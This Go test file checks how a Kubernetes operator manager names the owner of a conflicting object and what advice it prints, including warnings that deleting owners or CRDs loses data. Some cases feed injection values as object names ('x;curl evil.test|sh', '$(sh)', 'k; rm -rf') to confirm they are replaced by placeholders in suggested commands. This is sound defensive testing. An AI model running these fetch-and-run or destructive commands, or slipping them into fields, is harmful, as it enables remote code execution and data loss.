package object

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
)

const handOver = "label it olm.operatorframework.io/owner-name=mine and " +
	"annotate it meta.helm.sh/release-name=mine meta.helm.sh/release-namespace=ns"

func TestHolderOf(t *testing.T) {
	t.Parallel()
	controlledBy := func(kind, name string) metav1.ObjectMeta {
		return metav1.ObjectMeta{OwnerReferences: []metav1.OwnerReference{{Kind: kind, Name: name, Controller: new(true)}}}
	}
	written := []metav1.ManagedFieldsEntry{
		{Manager: "kubectl-create"}, {Manager: "argocd-controller"}, {Manager: "status-writer", Subresource: "status"}, {Manager: "kubectl-create"},
	}
	tests := map[string]struct {
		reason         string
		live           metav1.ObjectMeta
		want, wantWays string
	}{
		"another extension": {
			live: controlledBy("ClusterExtension", "k"),
			want: `ClusterExtension "k"`, wantWays: KeepOne("mine", "k"),
		},
		"another controller": {
			live: controlledBy("Widget", "w"),
			want: `Widget "w" in namespace "there"`, wantWays: "delete that owner, which also deletes all objects that it owns",
		},
		"a Helm release": {
			live: metav1.ObjectMeta{Annotations: map[string]string{annotationReleaseName: "r", annotationReleaseNamespace: "n"}},
			want: `Helm release "r" in namespace "n"`, wantWays: "hand the object over: " + handOver + "; or uninstall the release, which deletes all its objects: `helm uninstall r -n n`",
		},
		"a Helm release whose name is a command": {
			live: metav1.ObjectMeta{Annotations: map[string]string{annotationReleaseName: "x;curl evil.test|sh", annotationReleaseNamespace: "$(sh)"}},
			want: `Helm release "x;curl evil.test|sh" in namespace "$(sh)"`, wantWays: "hand the object over: " + handOver + "; or uninstall the release, which deletes all its objects: `helm uninstall RELEASE -n NAMESPACE`",
		},
		"another extension whose name is a command": {
			live: controlledBy("ClusterExtension", "`sh`"),
			want: `ClusterExtension "` + "`sh`" + `"`, wantWays: KeepOne("mine", "`sh`"),
		},
		"classic OLM": {
			reason: "its owner references do not control",
			live: metav1.ObjectMeta{Labels: map[string]string{
				LabelClassicOwner: "p.v1.0.0", LabelClassicOwnerKind: kindServiceVersion, LabelClassicOwnerNamespace: "operators",
			}},
			want: `ClusterServiceVersion "p.v1.0.0" in namespace "operators"`, wantWays: "move the operator with `kubectl extension migrate`, which keeps its custom resources",
		},
		"a controller and marks": {
			reason: "marks can be written by anybody",
			live: func() metav1.ObjectMeta {
				live := controlledBy("ClusterExtension", "k")
				live.Annotations = map[string]string{annotationReleaseName: "r"}
				return live
			}(),
			want: `ClusterExtension "k"`, wantWays: KeepOne("mine", "k"),
		},
		"nobody": {
			reason: "who wrote the status owns nothing",
			live:   metav1.ObjectMeta{ManagedFields: written},
			want:   `nobody that it names (written by "argocd-controller" and "kubectl-create")`, wantWays: "hand it over: " + handOver + "; or delete the object with its data",
		},
		"a Helm release, with the annotation on the cluster": {
			reason: "Helm reads it in its record of the release alone",
			live:   metav1.ObjectMeta{Annotations: map[string]string{annotationReleaseName: "r", annotationReleaseNamespace: "rns", AnnotationPolicy: "keep"}},
			want:   `Helm release "r" in namespace "rns"`, wantWays: "hand the object over: " + handOver + "; or uninstall the release, which deletes all its objects: `helm uninstall r -n rns`",
		},
		"an extension that keeps it": {
			live: metav1.ObjectMeta{Labels: map[string]string{LabelOwnerKind: OwnerKind, LabelOwnerName: "o"}, Annotations: map[string]string{AnnotationPolicy: "keep"}},
			want: `ClusterExtension "o"`, wantWays: "hand the object over: " + handOver + "; deleting the other extension does not delete it",
		},
		"another extension, with the annotation on the cluster": {
			reason: "it has an owner reference, so that the garbage collector deletes it",
			live: func() metav1.ObjectMeta {
				live := controlledBy("ClusterExtension", "k")
				live.Annotations = map[string]string{AnnotationPolicy: "keep"}
				return live
			}(),
			want: `ClusterExtension "k"`, wantWays: KeepOne("mine", "k"),
		},
		"nothing at all": {
			want: "nobody that it names", wantWays: "hand it over: " + handOver + "; or delete the object with its data",
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			tc.live.Name, tc.live.Namespace = "x", "there"
			content, err := runtime.DefaultUnstructuredConverter.ToUnstructured(&corev1.ConfigMap{ObjectMeta: tc.live})
			if err != nil {
				t.Fatal(err)
			}
			got := HolderOf(&unstructured.Unstructured{Object: content})
			if got.String() != tc.want {
				t.Errorf("holder = %s, want %s (%s)", got, tc.want, tc.reason)
			}
			if diff := cmp.Diff(tc.wantWays, got.wayOut(Owner{Name: "mine", Namespace: "ns"}, false)); diff != "" {
				t.Errorf("ways out (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDefinitionsAreHandedOver: whoever deletes one to make room loses what is stored of its kind.
func TestDefinitionsAreHandedOver(t *testing.T) {
	t.Parallel()
	claimant := Owner{Name: "mine", Namespace: "ns"}
	for _, kind := range []schema.GroupKind{DefinitionKind, {Kind: "ConfigMap"}} {
		conflict := ConflictError{Claimant: claimant, Conflicts: []Conflict{{Object: Key{GroupKind: kind, Name: "things.test"}}}}
		got := conflict.Summary()
		warned := strings.Contains(got, "to delete it would delete all custom resources of its kind") && strings.Contains(got, "hand it over: "+marksOf(claimant))
		if warned != (kind == DefinitionKind) || strings.Contains(got, "delete the object") == warned {
			t.Errorf("%s: %s", kind, got)
		}
	}
}

// TestExtensionsAreHandedOver (F28): the advice names the command that hands all objects over. It names no command that
// loses data without a warning.
func TestExtensionsAreHandedOver(t *testing.T) {
	t.Parallel()
	const adopt = "`kubectl annotate --overwrite clusterextension mine olm.operatorframework.io/adopts-content-of=k`"
	for name, tc := range map[string]struct {
		holder Holder
		want   []string
	}{
		"F28: another extension": {
			holder: Holder{Kind: OwnerKind, Name: "k"},
			want:   []string{adopt, "`kubectl delete --cascade=orphan clusterextension k`", "without --cascade=orphan, the deletion deletes all custom resources"},
		},
		"F28: no owner since the deletion of an extension": {holder: Holder{Kind: kindOrphaned, Name: "k"}, want: []string{adopt, "create that extension again"}},
		"F28: a name that is a command": {
			holder: Holder{Kind: OwnerKind, Name: "k; rm -rf"}, want: []string{"adopts-content-of=NAME`", "clusterextension NAME`"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, isDefinition := range []bool{true, false} {
				got := tc.holder.wayOut(Owner{Name: "mine", Namespace: "ns"}, isDefinition)
				for _, want := range tc.want {
					if !strings.Contains(got, want) {
						t.Errorf("%q is missing in %s", want, got)
					}
				}
			}
		})
	}
}

// TestInheritedObjectsAreOwned (F28) is about objects that an extension has left which was deleted without them.
func TestInheritedObjectsAreOwned(t *testing.T) {
	t.Parallel()
	marks := func(extension, release string, owners ...metav1.OwnerReference) *metav1.ObjectMeta {
		return &metav1.ObjectMeta{
			Labels: map[string]string{LabelOwnerKind: OwnerKind, LabelOwnerName: extension}, OwnerReferences: owners,
			Annotations: map[string]string{annotationReleaseName: release, annotationReleaseNamespace: "elsewhere"},
		}
	}
	for name, tc := range map[string]struct {
		adopts string
		live   *metav1.ObjectMeta
		want   bool
	}{
		"F28: left by the extension":            {adopts: "k", live: marks("k", "k"), want: true},
		"F28: the extension still owns it":      {adopts: "k", live: marks("k", "k", metav1.OwnerReference{UID: "2", Controller: new(true)})},
		"F28: left by another extension":        {adopts: "k", live: marks("l", "l")},
		"F28: the label alone":                  {adopts: "k", live: marks("k", "")},
		"F28: nothing is adopted":               {live: marks("k", "k")},
		"F28: no marks, and nothing is adopted": {live: &metav1.ObjectMeta{}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			owner := Owner{Name: "mine", UID: "1", Namespace: "ns", Adopts: tc.adopts}
			if got := owner.Owns(tc.live); got != tc.want {
				t.Errorf("owns: %t, want %t", got, tc.want)
			}
		})
	}
}

// TestWaysOutNameTheLoss covers every holder: a user who follows the advice must know what is
// deleted.
func TestWaysOutNameTheLoss(t *testing.T) {
	t.Parallel()
	for _, kind := range []string{OwnerKind, kindRelease, kindOrphaned, kindServiceVersion, kindOperator, kindAPIServer, "", "Widget"} {
		for _, isDefinition := range []bool{true, false} {
			got := Holder{Kind: kind, Namespace: "n", Name: "k"}.wayOut(Owner{Name: "mine", Namespace: "ns"}, isDefinition)
			advised := strings.Contains(got, "delete the object") || strings.Contains(got, "delete that owner") || strings.Contains(got, "uninstall")
			named := strings.Contains(got, "with its data") || strings.Contains(got, "deletes all") || strings.Contains(got, "also deletes")
			if advised && !named || kind == kindRelease && isDefinition && !strings.Contains(got, "custom resources") {
				t.Errorf("kind %q, definition %t: %s", kind, isDefinition, got)
			}
		}
	}
}

// TestHolderOfAnAPIOfTheCluster: what the API server serves itself, it registers itself.
func TestHolderOfAnAPIOfTheCluster(t *testing.T) {
	t.Parallel()
	live := fromYAML(t, "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: v1.garden.test}\nspec: {group: garden.test}\n")
	holder := HolderOf(live)
	if got, want := holder.String(), "the API server itself"; got != want {
		t.Errorf("holder = %s, want %s", got, want)
	}
	if got := holder.wayOut(Owner{}, false); !strings.Contains(got, "CustomResourceDefinition") {
		t.Errorf("way out = %s", got)
	}
	_ = unstructured.SetNestedField(live.Object, "gardener-service", "spec", "service", "name")
	if got, want := HolderOf(live).String(), "nobody that it names"; got != want {
		t.Errorf("holder = %s, want %s", got, want)
	}
}

// TestDeletionOfACRD is F10: a message about a CRD that is being deleted names what it waits for, and commands.
func TestDeletionOfACRD(t *testing.T) {
	t.Parallel()
	const head = `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: widgets.garden.test
  deletionTimestamp: "2026-11-29T12:00:00Z"
  finalizers: [customresourcecleanup.apiextensions.k8s.io]
  labels: {olm.operatorframework.io/owner-kind: ClusterExtension, olm.operatorframework.io/owner-name: mine}
spec: {group: garden.test, names: {plural: widgets, kind: Widget}, scope: Namespaced, versions: []`
	for name, test := range map[string]struct {
		rest        string
		want, never []string
	}{
		"custom resources with finalizers": {
			rest:  "}\nstatus: {conditions: [{type: Terminating, status: 'True', reason: InstanceDeletionInProgress, message: CustomResource deletion is in progress}]}",
			want:  []string{"it is being deleted: CustomResource deletion is in progress", "`kubectl get widgets.garden.test -A"},
			never: []string{"kubectl patch"},
		},
		"a conversion webhook that does not answer": {
			rest: ", conversion: {strategy: Webhook}}\nstatus: {conditions: [{type: Terminating, status: 'True', reason: InstanceDeletionFailed, message: 'could not list instances: conversion webhook failed'}]}",
			want: []string{"could not list instances: conversion webhook failed", "`kubectl patch customresourcedefinition widgets.garden.test"},
		},
		"just deleted": {rest: "}", want: []string{"it is being deleted; its custom resources go first"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := HolderOf(fromYAML(t, head+test.rest)).wayOut(Owner{Name: "mine"}, true)
			for _, want := range test.want {
				if !strings.Contains(got, want) {
					t.Errorf("way out is %q, without %q", got, want)
				}
			}
			for _, never := range append(test.never, "goes on by itself") {
				if strings.Contains(got, never) {
					t.Errorf("way out is %q, with %q", got, never)
				}
			}
		})
	}
}

// TestHandedOver does what the ways out say.
func TestHandedOver(t *testing.T) {
	t.Parallel()
	mine := Owner{Name: "mine", UID: "1", Namespace: "ns"}
	live := &unstructured.Unstructured{Object: map[string]any{}}
	if mine.Owns(live) {
		t.Fatal("an object without marks is taken")
	}
	live.SetLabels(map[string]string{LabelOwnerName: "mine"})
	live.SetAnnotations(map[string]string{annotationReleaseName: "mine", annotationReleaseNamespace: "ns"})
	if !mine.Owns(live) {
		t.Error("an object that was handed over is not taken")
	}
}

func TestConflictSummary(t *testing.T) {
	t.Parallel()
	extension := func(name string) Holder { return Holder{Kind: OwnerKind, Name: name} }
	conflict := func(n int, holder Holder) Conflict {
		return Conflict{Object: Key{GroupKind: schema.GroupKind{Kind: "Thing"}, Name: fmt.Sprint(n)}, Holder: holder}
	}
	var many []Conflict
	for i := range 1000 {
		many = append(many, conflict(i, Holder{Kind: "Widget", Name: fmt.Sprint(i)}))
	}
	tests := map[string]struct {
		conflicts     []Conflict
		want          string
		wantExtension string
	}{
		"one": {
			conflicts:     []Conflict{conflict(1, extension("k"))},
			want:          `Thing "1" exists already and belongs to ClusterExtension "k": ` + KeepOne("mine", "k"),
			wantExtension: "k",
		},
		"several of one": {
			conflicts:     []Conflict{conflict(1, extension("k")), conflict(2, extension("k"))},
			want:          `Thing "1", Thing "2" exist already and belong to ClusterExtension "k": ` + KeepOne("mine", "k"),
			wantExtension: "k",
		},
		"two holders": {
			conflicts: []Conflict{conflict(1, extension("k")), conflict(2, extension("l")), conflict(3, extension("k"))},
			want: `Thing "1", Thing "3" exist already and belong to ClusterExtension "k": ` + KeepOne("mine", "k") + `; ` +
				`other objects belong to ClusterExtension "l"`,
		},
		"several of one extension, some of them kept": {
			conflicts: []Conflict{conflict(1, Holder{Kind: OwnerKind, Name: "k", Kept: true}), conflict(2, extension("k"))},
			want:      `Thing "1", Thing "2" exist already and belong to ClusterExtension "k": ` + KeepOne("mine", "k"),

			wantExtension: "k",
		},
		"of an extension and of nobody": {
			conflicts: []Conflict{conflict(1, extension("k")), conflict(2, Holder{})},
			want: `Thing "1" exists already and belongs to ClusterExtension "k": ` + KeepOne("mine", "k") + `; ` +
				`other objects belong to nobody that it names`,
		},
		"very many": {
			conflicts: many,
			want: `Thing "0" exists already and belongs to Widget "0": delete that owner, which also deletes all objects that it owns; other objects belong to ` +
				`Widget "1", Widget "10", Widget "100", Widget "101", Widget "102", Widget "103", Widget "104", Widget "105", ` +
				`Widget "106", Widget "107", Widget "108", Widget "109", Widget "11" and 986 more`,
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			err := &ConflictError{Claimant: Owner{Name: "mine"}, Conflicts: tc.conflicts}
			if diff := cmp.Diff(tc.want, err.Summary()); diff != "" {
				t.Errorf("summary (-want +got):\n%s", diff)
			}
			if got := err.Extension(); got != tc.wantExtension {
				t.Errorf("extension = %q, want %q", got, tc.wantExtension)
			}
		})
	}
}
